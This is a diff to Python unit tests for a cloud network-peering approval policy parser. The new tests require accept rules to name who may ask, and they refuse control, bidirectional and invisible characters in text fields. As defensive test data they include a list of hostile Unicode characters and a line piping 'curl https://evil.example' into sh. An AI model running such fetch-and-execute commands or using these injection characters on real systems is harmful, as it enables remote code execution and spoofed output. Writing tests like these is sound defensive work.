@@ -42,6 +42,7 @@ from tests.unit.strategies import (
 )
 
 ROOT = Path(__file__).resolve().parents[2]
+ANYONE: dict[str, object] = {"anyone": True}  # an accept rule open to every account, said explicitly
 
 VALID_YAML = """
 schemaVersion: 1
@@ -148,7 +149,7 @@ def test_schema_version_may_be_quoted() -> None:
 
 
 def test_a_tag_match_without_value_means_any_value() -> None:
-    got = parse_policy(_doc(rules=[{"name": "r", "action": "accept", "accepter": {"vpcTag": {"key": "k"}}}]))
+    got = parse_policy(_doc(rules=[{"name": "r", "action": "reject", "accepter": {"vpcTag": {"key": "k"}}}]))
     tag = got.rules[0].accepter.vpc_tag
     assert tag is not None
     assert tag.value is None
@@ -285,7 +286,7 @@ def test_an_octal_looking_unquoted_account_id_is_refused() -> None:
 
 def test_duplicate_rule_names() -> None:
     rules = [
-        {"name": "a", "action": "accept"},
+        {"name": "a", "action": "accept", "requester": ANYONE},
         {"name": "b", "action": "hold"},
         {"name": "a", "action": "reject"},
         {"name": "b", "action": "reject"},
@@ -407,6 +408,9 @@ def _verdict(doc: PolicyDocument, who: RequesterIdentity, target: Vpc, hub_org: 
 
 
 def _accept_if(requester: dict[str, object] | None = None, accepter: dict[str, object] | None = None) -> PolicyDocument:
+    """One accept rule; with no account, OU or organization named, it says ``anyone: true``."""
+    if not {"accounts", "organizationalUnits", "organization"} & set(requester or {}):
+        requester = {**(requester or {}), **ANYONE}
     return policy(rule("only", "accept", requester, accepter))
 
 
@@ -567,7 +571,7 @@ def test_requester_and_accepter_sides_must_both_match() -> None:
     ],
 )
 def test_reject_wins_over_hold_wins_over_accept_whatever_the_order(order: tuple[str, ...]) -> None:
-    rules = [rule(f"{action}-rule", action) for action in order]
+    rules = [rule(f"{action}-rule", action, ANYONE) for action in order]
     assert _verdict(policy(*rules), identity(), vpc()) is Verdict.REJECT
     without_reject = [r for r in rules if r["action"] != "reject"]
     assert _verdict(policy(*without_reject), identity(), vpc()) is Verdict.HOLD
@@ -604,10 +608,10 @@ def test_an_empty_policy_holds_everything() -> None:
 
 def test_reasons_name_the_winner_and_every_overridden_rule() -> None:
     doc = policy(
-        rule("accept-a", "accept"),
+        rule("accept-a", "accept", ANYONE),
         rule("hold-b", "hold"),
         rule("reject-c", "reject"),
-        rule("accept-d", "accept"),
+        rule("accept-d", "accept", ANYONE),
         rule("unrelated", "reject", {"accounts": [SANDBOX_ACCOUNT]}),
     )
     got = evaluate(doc, identity(), vpc(), ORG_ID)
@@ -616,7 +620,7 @@ def test_reasons_name_the_winner_and_every_overridden_rule() -> None:
 
 
 def test_the_first_of_several_rules_with_the_winning_action_is_named() -> None:
-    doc = policy(rule("accept-1", "accept"), rule("reject-1", "reject"), rule("reject-2", "reject"))
+    doc = policy(rule("accept-1", "accept", ANYONE), rule("reject-1", "reject"), rule("reject-2", "reject"))
     got = evaluate(doc, identity(), vpc(), ORG_ID)
     assert got.rule == "reject-1"
     assert got.reasons == ("rule 'reject-1' says reject", "it overrides 'accept-1'")
@@ -638,7 +642,8 @@ def test_a_rule_named_hold_wins_over_accept_with_its_own_name() -> None:
 
 
 def test_evaluate_records_the_policy_version() -> None:
-    assert evaluate(policy(rule("a", "accept"), version="v42"), identity(), vpc(), ORG_ID).policy_version == "v42"
+    doc = policy(rule("a", "accept", ANYONE), version="v42")
+    assert evaluate(doc, identity(), vpc(), ORG_ID).policy_version == "v42"
 
 
 def test_unavailable_policy_holds_and_says_why() -> None:
@@ -730,7 +735,8 @@ def test_destination_errors(routing: dict[str, object], expected: str) -> None:
 
 
 def _accept_rule(name: str, routing: dict[str, object] | None = None, action: str = "accept") -> dict[str, object]:
-    return {"name": name, "action": action, **({"routing": routing} if routing is not None else {})}
+    out: dict[str, object] = {"name": name, "action": action, "requester": ANYONE}
+    return {**out, **({"routing": routing} if routing is not None else {})}
 
 
 def test_a_rule_routing_overrides_only_the_fields_it_names() -> None:
@@ -821,3 +827,159 @@ def test_bad_reminder_points_are_refused(points: list[object], expected: str) ->
     document = {"schemaVersion": 1, "version": "r1", "cleanup": {"remindBeforeExpiryHours": points}}
     with pytest.raises(PolicyError, match=expected):
         parse_policy(json.dumps(document))
+
+
+# --- guard rails: an accept rule names who may ask; text is one line of visible characters -------
+
+
+@pytest.mark.parametrize(
+    "rule_doc",
+    [
+        {"name": "r", "action": "accept"},  # the one-line policy that accepted the world
+        {"name": "r", "action": "accept", "accepter": {"vpcTag": {"key": "peering-autopilot:accept"}}},
+        {"name": "r", "action": "accept", "requester": {"regions": ["us-east-1"]}},
+        {"name": "r", "action": "accept", "requester": {}},
+    ],
+)
+def test_an_accept_rule_must_name_who_may_ask(rule_doc: dict[str, object]) -> None:
+    message = _error(_doc(rules=[rule_doc]))
+    assert "rules.0: Value error, accept rule 'r' must say who may ask" in message
+    assert "requester: {anyone: true}" in message
+
+
+@pytest.mark.parametrize(
+    "requester",
+    [{"accounts": [MEMBER_ACCOUNT]}, {"organizationalUnits": [PLATFORM_OU]}, {"organization": "self"}, ANYONE],
+)
+def test_an_accept_rule_naming_accounts_ous_an_organization_or_anyone_is_valid(requester: dict[str, object]) -> None:
+    got = parse_policy(_doc(rules=[{"name": "r", "action": "accept", "requester": requester}]))
+    assert got.rules[0].accepts_anyone is (requester == ANYONE)
+
+
+def test_hold_and_reject_rules_need_no_requester() -> None:
+    got = parse_policy(_doc(rules=[{"name": "pci", "action": "reject", "accepter": {"vpcTag": {"key": "pci"}}}]))
+    assert got.warnings() == []
+
+
+def test_anyone_accepts_any_account_in_the_world_and_is_warned_about() -> None:
+    doc = parse_policy(
+        _doc(rules=[{"name": "open", "action": "accept", "requester": {"anyone": True, "regions": [REGION]}}])
+    )
+    stranger = identity(account=OUTSIDER_ACCOUNT, org_id=None, ou_path=())
+    assert _verdict(doc, stranger, vpc(), None) is Verdict.ACCEPT
+    assert _verdict(doc, identity(account=OUTSIDER_ACCOUNT, region=OTHER_REGION), vpc(), None) is Verdict.HOLD
+    assert doc.warnings() == [
+        "rule 'open' accepts peering requests from ANY AWS account in the world (requester.anyone: true); "
+        "anyone who learns a matching VPC id can get a network path into it"
+    ]
+
+
+@pytest.mark.parametrize(
+    ("requester", "expected"),
+    [
+        ({"anyone": False}, "anyone: false means nothing"),
+        ({"anyone": True, "accounts": [MEMBER_ACCOUNT]}, "cannot be combined with accounts"),
+        ({"anyone": True, "organization": "self"}, "cannot be combined with accounts"),
+        ({"anyone": "yes"}, "rules.0.requester.anyone: Input should be a valid boolean"),
+    ],
+)
+def test_anyone_means_true_and_alone(requester: dict[str, object], expected: str) -> None:
+    assert expected in _error(_doc(rules=[{"name": "r", "action": "accept", "requester": requester}]))
+
+
+HOSTILE = [
+    "\n",  # a fake second line in a notification
+    "\r",
+    "\t",
+    "\x1b",  # terminal escape
+    "\x00",
+    "\x7f",  # DEL
+    "\x85",  # C1 next line
+    "\x9b",  # C1 control sequence introducer
+    "\u202e",  # right-to-left override
+    "\u2066",  # left-to-right isolate
+    "\u2069",  # pop directional isolate
+    "\u200b",  # zero width space
+    "\u200f",  # right-to-left mark
+    "\u2028",  # line separator
+    "\ufeff",  # zero width no-break space
+]
+
+
+def _rule_with(where: str, text: str) -> tuple[dict[str, object], str]:
+    """A document with ``text`` in one free string, and the location its error names."""
+    accept = {"name": "r", "action": "accept", "requester": {"accounts": [MEMBER_ACCOUNT]}}
+    places: dict[str, tuple[dict[str, object], str]] = {
+        "version": ({"version": f"v{text}1", "rules": [accept]}, "version"),
+        "name": ({"rules": [{**accept, "name": f"r{text}"}]}, "rules.0.name"),
+        "description": ({"rules": [{**accept, "description": f"ok{text}run this"}]}, "rules.0.description"),
+        "tag key": (
+            {"rules": [{**accept, "accepter": {"vpcTag": {"key": f"k{text}"}}}]},
+            "rules.0.accepter.vpcTag.key",
+        ),
+        "tag value": (
+            {"rules": [{**accept, "accepter": {"vpcTag": {"key": "k", "value": f"v{text}"}}}]},
+            "rules.0.accepter.vpcTag.value",
+        ),
+        "organization": (
+            {"rules": [{**accept, "requester": {"organization": f"o-{text}"}}]},
+            "rules.0.requester.organization",
+        ),
+        "OU": (
+            {"rules": [{**accept, "requester": {"organizationalUnits": [f"ou-{text}"]}}]},
+            "rules.0.requester.organizationalUnits.0",
+        ),
+        "region": (
+            {"rules": [{**accept, "requester": {"accounts": [MEMBER_ACCOUNT], "regions": [f"us{text}"]}}]},
+            "rules.0.requester.regions.0",
+        ),
+        "VPC id": ({"rules": [{**accept, "accepter": {"vpcIds": [f"vpc-{text}"]}}]}, "rules.0.accepter.vpcIds.0"),
+        "routing tag": (
+            {"routing": {"routeTables": {"select": "tagged", "tag": {"key": f"k{text}"}}}},
+            "routing.routeTables.tag.key",
+        ),
+    }
+    overrides, location = places[where]
+    base: dict[str, object] = {"schemaVersion": 1, "version": "v1", "rules": []}
+    return {**base, **overrides}, location
+
+
+@pytest.mark.parametrize("character", HOSTILE, ids=[f"U+{ord(c):04X}" for c in HOSTILE])
+@pytest.mark.parametrize(
+    "where",
+    ["version", "name", "description", "tag key", "tag value", "organization", "OU", "region", "VPC id", "routing tag"],
+)
+def test_text_fields_refuse_control_bidi_and_invisible_characters(where: str, character: str) -> None:
+    document, location = _rule_with(where, character)
+    message = _error(json.dumps(document))
+    assert f"{location}: Value error, character " in message
+    assert f"is U+{ord(character):04X}" in message
+    assert character not in message  # the message shows the code point, never the character
+
+
+def test_only_those_characters_are_refused_not_other_scripts() -> None:
+    document, _ = _rule_with("description", " — équipe réseau, 東京 ")
+    assert parse_policy(json.dumps(document)).rules[0].description == "ok — équipe réseau, 東京 run this"
+    hidden, _ = _rule_with("description", " — équipe réseau\u202e, 東京 ")
+    assert "character 19 is U+202E (RIGHT-TO-LEFT OVERRIDE)" in _error(json.dumps(hidden))
+
+
+def test_a_yaml_block_scalar_that_ends_in_a_newline_is_refused_with_a_hint() -> None:
+    text = "schemaVersion: 1\nversion: |\n  2024-06-01\n  $ aws ssm put-parameter ...\nrules: []\n"
+    message = _error(text)
+    assert "version: Value error, character 11 is U+000A" in message
+    assert "folded scalar '>-'" in message
+
+
+def test_an_error_quoting_a_hostile_key_escapes_it() -> None:
+    message = _error(_doc(rules=[{"name": "r", "action": "hold", "x\n\u202eevil": 1}]))
+    assert "rules.0.x\\u000a\\u202eevil: Extra inputs are not permitted" in message
+    assert "\n" not in message
+
+
+def test_a_yaml_error_quotes_the_document_on_one_line() -> None:
+    # The reason of every held request while the policy is broken: no line of it is the author's.
+    message = _error("schemaVersion: 1\nversion: x\nrules: [\n  {name: a}\n  $ curl https://evil.example | sh\n")
+    assert message.startswith("the approval policy is not valid YAML/JSON: ")
+    assert "\n" not in message
+    assert "\\u000a" in message
